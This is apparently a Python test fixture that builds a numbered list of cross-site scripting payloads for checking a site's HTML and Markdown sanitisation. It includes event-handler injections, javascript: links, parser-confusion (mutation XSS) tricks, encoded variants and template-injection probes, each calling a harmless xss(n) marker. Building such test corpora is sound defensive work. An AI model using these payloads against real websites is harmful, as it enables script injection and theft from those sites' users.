"""Texts that try to run a script, written for this house: every one calls `xss(<its number>)` when it succeeds."""

from dataclasses import dataclass
from enum import StrEnum

RUN = "RUN"
NUMBER = "NUMBER"


class Shape(StrEnum):
    """Where a payload is at home."""

    HTML = "html"
    ATTRIBUTE = "attribute"
    """breaks out of an attribute's value"""
    MARKDOWN = "markdown"
    TEXT = "text"
    """runs only where something decodes or computes it once too often"""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, and which one it is."""

    number: int
    shape: Shape
    text: str

    @property
    def line(self) -> str:
        """The same on one line."""
        return " ".join(self.text.split())


TAGS = """
<script>RUN</script>
<ScRiPt>RUN</sCrIpT >
<script/open>RUN</script>
<script type=module>RUN</script>
<script src="data:text/javascript,RUN"></script>
<script>/*<!--*/RUN//--></script>
<script\tdefer src=data:,RUN></script>
<scr<script>ipt>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN" alt="a > b">
<img/src=x/onerror=RUN>
<ImG SrC=x oNeRrOr=RUN>
<img src=x onerror="x&#115;s(NUMBER)">
<img src=x onerror="xs&#x73;(NUMBER)">
<img src=x onerror='eval("x"+"ss(NUMBER)")'>
<img srcset=x onerror=RUN>
<img src="/static/icon.svg" onload=RUN>
<img src=x onerror=RUN //
<picture><source srcset=x><img onerror=RUN src=x></picture>
<input type=image src=x onerror=RUN>
<video src=x onerror=RUN></video>
<video><source src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<audio><track default src=x onerror=RUN></audio>
<body onload=RUN>
<body onpageshow=RUN>
<iframe onload=RUN></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="data:text/html,<script>RUN</script>">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<link rel=stylesheet href=x onerror=RUN>
<link rel=stylesheet href="data:text/css,b{}" onload=RUN>
<style onload=RUN>b{}</style>
<style>@import "x";</style><img src=x onerror=RUN>
<details open ontoggle=RUN><summary>more</summary>text</details>
<details ontoggle=RUN><summary>more</summary>text</details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>one</select>
<textarea autofocus onfocus=RUN></textarea>
<button onclick=RUN>go</button>
<button autofocus onfocusin=RUN>go</button>
<b tabindex=0 onfocus=RUN>go</b>
<p onmouseover=RUN>go</p>
<p onpointerenter=RUN>go</p>
<p onclick="RUN">go</p>
<div onwheel=RUN>go</div>
<div contenteditable onbeforeinput=RUN>go</div>
<input oninput=RUN value=go>
<form onsubmit="RUN;return false"><button>go</button></form>
<form oninvalid=RUN><input required oninvalid=RUN><button>go</button></form>
<style>@keyframes k{to{opacity:.9}}</style><b style="animation:k 9ms" onanimationend=RUN>go</b>
<div popover id=pNUMBER onbeforetoggle=RUN>x</div><button popovertarget=pNUMBER>go</button>
<dialog open onclick=RUN>go</dialog>
<marquee onstart=RUN>go</marquee>
<a href="javascript:RUN">go</a>
<a href="JaVaScRiPt:RUN">go</a>
<a href=" javascript:RUN">go</a>
<a href="&#1;javascript:RUN">go</a>
<a href="java&#9;script:RUN">go</a>
<a href="java&NewLine;script:RUN">go</a>
<a href="javascript&colon;RUN">go</a>
<a href="javascript&#58;RUN">go</a>
<a href="javascript://academy.example/%0aRUN">go</a>
<a href="data:text/html,<script>parent.RUN</script>">go</a>
<a href="vbscript:RUN">go</a>
<a href="#" onclick=RUN>go</a>
<a ping="x" href="javascript:void(RUN)">go</a>
<form action="javascript:RUN"><button>go</button></form>
<form><button formaction="javascript:RUN">go</button></form>
<form id=fNUMBER></form><button form=fNUMBER formaction="javascript:RUN">go</button>
<form><input type=submit formaction=javascript:RUN value=go></form>
<area onclick=RUN href=# >
<map name=mNUMBER><area href="javascript:RUN" shape=default></map><img usemap=#mNUMBER src=x>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="javascript:/a/"><a href="/**/RUN">go</a>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<div><template shadowrootmode=open><slot onslotchange=RUN></slot></template>x</div>
<xmp></xmp><img src=x onerror=RUN>
<title></title><img src=x onerror=RUN>
<textarea></textarea><img src=x onerror=RUN>
<noembed></noembed><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<![CDATA[><img src=x onerror=RUN>]]>
<?xml ><img src=x onerror=RUN>?>
</ ><img src=x onerror=RUN>
<x onclick=RUN tabindex=1>go</x>
<x:y xmlns:x="http://www.w3.org/1999/xhtml" onclick=RUN>go</x:y>
<svg onload=RUN></svg>
<svg><script>RUN</script></svg>
<svg><script>x&#115;s(NUMBER)</script></svg>
<svg><script href="data:text/javascript,RUN"></script></svg>
<svg><script xlink:href="data:text/javascript,RUN" /></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><a href="javascript:RUN"><text y=20>go</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>go</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>go</text></a></svg>
<svg><a><set attributeName=href to="javascript:RUN"/><text y=20>go</text></a></svg>
<svg><image href=x onerror=RUN></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><desc><iframe onload=RUN></iframe></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><p><style><b title="</style><img src=x onerror=RUN>">
<svg></p><style><i id="</style><img src=x onerror=RUN>">
<math><mi><img src=x onerror=RUN></mi></math>
<math><style><img src=x onerror=RUN></style></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">
<math href="javascript:RUN"><mtext>go</mtext></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x>">
<table><td><img src=x onerror=RUN>
<table background="x" onclick=RUN><tr><td>go
<select><option><img src=x onerror=RUN></option></select>
<label><input type=checkbox onchange=RUN>go</label>
<ol onclick=RUN start=1><li>go</ol>
<sup onmouseenter=RUN>go</sup>
<section class="footnote" onclick=RUN>go</section>
<input type=radio name=__tabbed_1 onclick=RUN>
<abbr title="x" onclick=RUN>go</abbr>
<figure onclick=RUN><figcaption>go</figcaption></figure>
<div class=scroll role=region tabindex=0 aria-label=x onfocus=RUN>go</div>
<span class=arithmatex onclick=RUN>\\(x\\)</span>
"""

ATTRIBUTES = """
"><script>RUN</script>
'><script>RUN</script>
"><img src=x onerror=RUN>
" autofocus onfocus="RUN
' autofocus onfocus='RUN
" onclick=RUN tabindex="1
' onclick=RUN tabindex='1
"/autofocus/onfocus=RUN x="
"onfocus="RUN"autofocus="
" style="animation:k 1s" onclick="RUN" x="
</title><script>RUN</script>
</textarea><script>RUN</script>
</select><img src=x onerror=RUN>
</style><img src=x onerror=RUN>
</script><script>RUN</script>
</noscript><img src=x onerror=RUN>
--><script>RUN</script>
"><svg onload=RUN>
"><a href="javascript:RUN">go</a>
"><base href="javascript:/a/">
"""

TEXTS = """
javascript:RUN
JAVASCRIPT:RUN//
data:text/html,<script>RUN</script>
';RUN;//
";RUN;//
\\';RUN;//
`${RUN}`
${RUN}
{{1337*7331}}
{{constructor.constructor('RUN')()}}
{{ config.items() }}{% print(1337*7331) %}
${1337*7331}#{1337*7331}<%= 1337*7331 %>
{{''.__class__.__mro__[1].__subclasses__()}}
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
%3Cimg%20src=x%20onerror=RUN%3E
%253Cscript%253ERUN%253C/script%253E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cimg src=x onerror=RUN\\x3e
＜script＞RUN＜/script＞
﹤img src=x onerror=RUN﹥
<ſcript>RUN</ſcript>
<ımg src=x onerror=RUN>
<s\u200bcript>RUN</s\u200bcript>
<img\u00a0src=x onerror=RUN>
\u202e<script>RUN</script>\u202c
=HYPERLINK("javascript:RUN")
"""

MARKDOWN = (
    "[go](javascript:RUN)",
    "[go](JaVaScRiPt:RUN)",
    "[go](<javascript:RUN>)",
    "[go]( javascript:RUN)",
    "[go](java&#115;cript:RUN)",
    "[go](javascript&colon;RUN)",
    "[go](java&Tab;script:RUN)",
    "[go](data:text/html,<script>parent.RUN</script>)",
    "[go](vbscript:RUN)",
    "[go][rNUMBER]\n\n[rNUMBER]: javascript:RUN",
    "[go][]\n\n[go]: <javascript:RUN> 'title'",
    "<javascript:RUN>",
    "[![go](x)](javascript:RUN)",
    '[go](https://academy.example/"onmouseover="RUN)',
    '[go](https://academy.example/ "x" onmouseover="RUN)',
    "[go](https://academy.example/ 'x\" onmouseover=\"RUN')",
    "![go](javascript:RUN)",
    '![go](x"onerror="RUN)',
    '![go" onerror="RUN](x)',
    "![go](x 'y\" onerror=\"RUN')",
    "![go](x){: onerror=RUN }",
    "[go](https://academy.example){: onclick=RUN }",
    "[go](https://academy.example){: href=javascript:RUN }",
    "A text{: onclick=RUN }",
    "A text\n{: onclick=RUN tabindex=1 }",
    "*go*{: onclick=RUN }",
    "A text\n{: class='x\" onclick=\"RUN' }",
    "## Heading NUMBER { onclick=RUN }",
    '## Heading NUMBER {#a"onclick="RUN }',
    "## Heading NUMBER <img src=x onerror=RUN>",
    "### Heading NUMBER\n{: style=animation:k onclick=RUN }",
    "A note[^fNUMBER]\n\n[^fNUMBER]: <img src=x onerror=RUN>",
    "A note[^fNUMBER]\n\n[^fNUMBER]: text [go](javascript:RUN)",
    'A note[^"onclick="RUN]\n\n[^"onclick="RUN]: text',
    "| a | b |\n|---|---|\n| <img src=x onerror=RUN> | <b onclick=RUN>go</b> |",
    "| a {: onclick=RUN } | b |\n|---|---|\n| c {: onclick=RUN } | d |",
    '```"><img src=x onerror=RUN>\ncode\n```',
    '``` {.python onclick="RUN"}\ncode\n```',
    '```python title="<img src=x onerror=RUN>"\ncode\n```',
    '```python hl_lines="1" linenums="<img src=x onerror=RUN>"\ncode\n```',
    "```html\n<img src=x onerror=RUN>\n```",
    "```\n</code></pre><img src=x onerror=RUN>\n```",
    "    <script>RUN</script>",
    "`<img src=x onerror=RUN>`",
    "``</code><img src=x onerror=RUN>``",
    "> [!NOTE]\n> <img src=x onerror=RUN>",
    "> [!NOTE] <img src=x onerror=RUN>\n> text",
    '> [!"><img src=x onerror=RUN>]\n> text',
    '??? note "<img src=x onerror=RUN>"\n    text',
    '???+ "onclick=RUN" "go"\n    text',
    '=== "<img src=x onerror=RUN>"\n    text',
    '=== "Tab NUMBER"\n    <img src=x onerror=RUN>',
    "\\(<img src=x onerror=RUN>\\)",
    "\\(\\text{<img src=x onerror=RUN>}\\)",
    "\\[\\href{javascript:RUN}{x}\\]",
    '\\(\\class{" onclick="RUN}{x}\\)',
    "\\(x</span><img src=x onerror=RUN>\\)",
    '\\[\\begin{matrix}"><img src=x onerror=RUN>\\end{matrix}\\]',
    "$<img src=x onerror=RUN>$",
    'The ABNUMBER stands here.\n\n*[ABNUMBER]: "><img src=x onerror=RUN>',
    'The ABNUMBER stands here.\n\n*[ABNUMBER]: x" onmouseover="RUN',
    "Term <img src=x onerror=RUN>\n:   Definition <b onclick=RUN>go</b>",
    '++"<img src=x onerror=RUN>"++',
    "==<img src=x onerror=RUN>==",
    "- [ ] <img src=x onerror=RUN>\n- [x] <b onclick=RUN>go</b>",
    "1. <script>RUN</script>\n2. two",
    "<div markdown=1 onclick=RUN>go</div>",
    "<details markdown><summary onclick=RUN>go</summary></details>",
    "::check --><img/src=x/onerror=RUN>",
    "waymarkcheck0z\n\n<img src=x onerror=RUN>",
    "\u0002wzxhzdk:0\u0003 <script>RUN</script>",
    "klzzwxh:0000 <script>RUN</script>",
    "<https://academy.example/><img src=x onerror=RUN>",
    '<a@b.example"onclick=RUN>',
    "https://academy.example/<img src=x onerror=RUN>",
    "Line  \n<img src=x onerror=RUN>",
    "\\<img src=x onerror=RUN\\>",
    "&#60;img src=x onerror=RUN&#62;",
    "*<img src=x onerror=RUN>*",
    "[<img src=x onerror=RUN>](https://academy.example)",
)  # fmt: skip

PRODUCT = "9801547"
"""What the sum in the texts comes to, should anything compute it."""


def payloads() -> tuple[Payload, ...]:
    """All of them, numbered."""
    families = (
        (Shape.HTML, TAGS.strip().split("\n")),
        (Shape.ATTRIBUTE, ATTRIBUTES.strip().split("\n")),
        (Shape.MARKDOWN, MARKDOWN),
        (Shape.TEXT, TEXTS.strip().split("\n")),
    )
    written = [(shape, text) for shape, texts in families for text in texts]
    return tuple(
        Payload(number, shape, text.replace(RUN, f"xss({number})").replace(NUMBER, str(number)))
        for number, (shape, text) in enumerate(written, 1)
    )
